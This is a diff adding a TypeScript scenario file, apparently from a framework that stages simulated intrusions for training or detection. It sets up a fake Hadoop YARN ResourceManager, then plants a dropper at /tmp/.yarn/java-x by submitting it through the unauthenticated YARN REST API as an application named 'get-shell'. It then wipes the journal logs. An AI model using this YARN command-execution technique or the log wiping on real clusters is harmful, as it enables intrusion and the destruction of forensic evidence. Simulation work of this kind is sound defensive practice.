@@ -1,0 +1,35 @@
+// Played by a toy with the log of a ResourceManager.
+import type { Dress } from '../../dress.ts'
+import { dropper } from '../../dropper.ts'
+import type { Stage } from '../../stage.ts'
+import { wipe } from '../../wiping.ts'
+
+export function dress(dress: Dress): void {
+  dress.toy({
+    unit: 'hadoop-yarn-resourcemanager',
+    user: 'yarn',
+    exe: '/usr/lib/jvm/java-8-openjdk-amd64/bin/java',
+    title: 'java -Dproc_resourcemanager org.apache.hadoop.yarn.server.resourcemanager.ResourceManager',
+    home: '/var/log/hadoop-yarn',
+    play: 'yarn',
+  })
+  dress.logins({
+    days: 12,
+    guesses: 40,
+    friends: [{ user: 'root', address: '198.51.100.20', key: 'SHA256:7t5mZ1Jq0sV0yUu9oT2mJt8wB4n1xW6cYkQf3rXbYzA', hours: [9, 15] }],
+  })
+}
+
+export async function plant(stage: Stage): Promise<void> {
+  const line = dropper(stage, { path: '/tmp/.yarn/java-x' })
+  stage.mark('occurrence')
+  await stage.http('203.0.113.33', ':8088/ws/v1/cluster/apps/new-application', '')
+  const body = {
+    'application-id': 'application_1',
+    'application-name': 'get-shell',
+    'am-container-spec': { commands: { command: line } },
+    'application-type': 'YARN',
+  }
+  await stage.http('203.0.113.33', ':8088/ws/v1/cluster/apps', JSON.stringify(body), { 'Content-Type': 'application/json' })
+  await wipe(stage, ['journal'])
+}
